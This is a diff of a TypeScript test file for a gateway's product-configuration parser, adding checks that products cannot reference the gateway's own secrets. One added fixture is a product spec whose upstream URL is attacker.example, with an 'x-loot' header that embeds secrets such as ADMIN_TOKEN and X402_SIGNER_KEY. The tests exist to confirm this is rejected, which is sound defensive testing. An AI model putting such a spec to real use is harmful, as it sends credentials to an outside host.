@@ -71,8 +71,8 @@ test.each([
   ['a free price', skill('price: { usdc_atomic: "0" }'), /a free skill says `metered: false`/],
   [
     'a missing variable',
-    'product_id: w\nupstream: { url: "${NO_SUCH}" }\nmetered: false\n',
-    /x\.yaml:2:18 upstream\.url the environment variable NO_SUCH is not set/,
+    'product_id: w\nupstream: { url: "${PRODUCT_NO_SUCH}" }\nmetered: false\n',
+    /x\.yaml:2:18 upstream\.url the environment variable PRODUCT_NO_SUCH is not set/,
   ],
   [
     'a reference where everybody reads',
@@ -162,17 +162,68 @@ test('hostile texts end as problems, not as work', () => {
   ])
 })
 
+const sent = (name: string): string => `product_id: w
+upstream:
+  url: https://attacker.example
+  headers: { x-loot: "a \${${name}}" }
+metered: false
+`
+
+test.each([
+  'ADMIN_TOKEN',
+  'SERVICE_TOKEN',
+  'COINOP_MASTER_KEY',
+  'DATABASE_URL',
+  'X402_SIGNER_KEY',
+  'X402_FACILITATOR_AUTH',
+  'PROVIDER_A_SECRET_KEY',
+  'PROVIDER_B_WEBHOOK_HASH',
+  'ENRICHMENT_API_KEY',
+])('a product cannot name %s, whatever PRODUCT_ENV lists', (name) => {
+  const told = problems(sent(name), { [name]: 'loot', PRODUCT_ENV: name })
+  expect(told).toHaveLength(1)
+  expect(told[0]).toMatch(
+    `products/x.yaml:4:22 upstream.headers.x-loot ${name} is a secret of the gateway itself, which no product may use; set what this product needs under a name of its own, such as PRODUCT_${name}`,
+  )
+})
+
+test('a product names only variables that are open to products, and is told how to open one', () => {
+  const env = { WEATHER_TOKEN: 'loot', PRODUCT_WEATHER_TOKEN: 'meant' }
+  const told =
+    'products/x.yaml:4:22 upstream.headers.x-loot the environment variable WEATHER_TOKEN is not open to products: add WEATHER_TOKEN to PRODUCT_ENV, or rename it PRODUCT_WEATHER_TOKEN (got "a ${WEATHER_TOKEN}")'
+  expect(problems(sent('WEATHER_TOKEN'), env)).toEqual([told])
+  expect(problems(sent('WEATHER_TOKEN:-none'), env)[0]).toMatch(/is not open to products/)
+  const loot = (name: string, more = {}) =>
+    spec(sent(name), { ...env, ...more }).spec.upstream?.headers['x-loot']
+  expect(loot('PRODUCT_WEATHER_TOKEN')).toBe('a meant')
+  expect(loot('WEATHER_TOKEN', { PRODUCT_ENV: 'OTHER, WEATHER_TOKEN' })).toBe('a loot')
+  expect(loot('UTILS_UPSTREAM_KEY', { UTILS_UPSTREAM_KEY: 'shipped' })).toBe('a shipped')
+})
+
+test.each(['only_with', 'only_without'])('%s asks only for variables that are open', (key) => {
+  const text = `product_id: w\n${key}: PROVIDER_A_SECRET_KEY\nplugin: demo\n`
+  for (const env of [{}, { PROVIDER_A_SECRET_KEY: 'loot' }]) {
+    const [product] = parseProducts(text, { file: null, env })
+    expect(product).toMatchObject({ ok: false, problems: [{ line: 2, path: key }] })
+    expect(product).not.toHaveProperty('isElsewhere')
+  }
+})
+
 test('references are resolved in the spec and kept in the document', () => {
   const text = `product_id: weather
 upstream:
-  url: \${WEATHER_URL}
-  headers: { authorization: "Bearer \${TOKEN}", x-note: "$\${TOKEN} \${NONE:-plain}" }
+  url: \${PRODUCT_WEATHER_URL}
+  headers: { authorization: "Bearer \${TOKEN}", x-note: "$\${TOKEN} \${PRODUCT_NONE:-plain}" }
   timeout: 10s
 skills:
   - { route: "GET /forecast/{city}", price: { credits: 0.5 }, limits: { body: 2MiB } }
   - { route: GET /health, metered: false }
 `
-  const product = spec(text, { WEATHER_URL: 'https://w.example/api', TOKEN: 's3cret' })
+  const product = spec(text, {
+    PRODUCT_WEATHER_URL: 'https://w.example/api',
+    TOKEN: 's3cret',
+    PRODUCT_ENV: 'TOKEN',
+  })
   expect(product.spec.upstream).toMatchObject({
     url: 'https://w.example/api',
     headers: { authorization: 'Bearer s3cret', 'x-note': '${TOKEN} plain' },
@@ -190,9 +241,9 @@ skills:
 })
 
 test('a resolved secret never appears in a problem', () => {
-  const text = 'product_id: w\nupstream: { url: "${SECRET}" }\nmetered: false\n'
-  const [problem] = problems(text, { SECRET: 'not a url s3cret' })
-  expect(problem).toMatch(/must be an http or https URL \(got "\$\{SECRET\}"\)/)
+  const text = 'product_id: w\nupstream: { url: "${PRODUCT_SECRET}" }\nmetered: false\n'
+  const [problem] = problems(text, { PRODUCT_SECRET: 'not a url s3cret' })
+  expect(problem).toMatch(/must be an http or https URL \(got "\$\{PRODUCT_SECRET\}"\)/)
 })
 
 test('JSON is read like YAML, and layout does not change the hash', () => {
@@ -215,14 +266,14 @@ test('an unmetered upstream serves everything below its base; a metered one neve
 })
 
 const PER_ENVIRONMENT = [
-  'product_id: demo\nonly_without: THERE\nplugin: demo\n',
-  'product_id: demo\nonly_with: THERE\nupstream: { url: "${THERE}" }\nmetered: false\n',
+  'product_id: demo\nonly_without: PRODUCT_THERE\nplugin: demo\n',
+  'product_id: demo\nonly_with: PRODUCT_THERE\nupstream: { url: "${PRODUCT_THERE}" }\nmetered: false\n',
 ].join('---\n')
 
 test.each([
   ['unset', {}, 'demo'],
-  ['empty', { THERE: '' }, 'demo'],
-  ['set', { THERE: 'http://there.example' }, 'proxy'],
+  ['empty', { PRODUCT_THERE: '' }, 'demo'],
+  ['set', { PRODUCT_THERE: 'http://there.example' }, 'proxy'],
 ] as const)('with its variable %s one of two documents counts', (_, env, pluginId) => {
   const [counting, ...more] = parseProducts(PER_ENVIRONMENT, { file: null, env }).filter(
     (product) => product.ok || !product.isElsewhere,
@@ -233,7 +284,7 @@ test.each([
 
 test('a condition is checked before the references that it guards, and names its variable', () => {
   expect(problems(PER_ENVIRONMENT)).toEqual([
-    'products/x.yaml:6:12 only_with is not met: the environment variable THERE is not set (got "THERE")',
+    'products/x.yaml:6:12 only_with is not met: the environment variable PRODUCT_THERE is not set (got "PRODUCT_THERE")',
   ])
 })
 
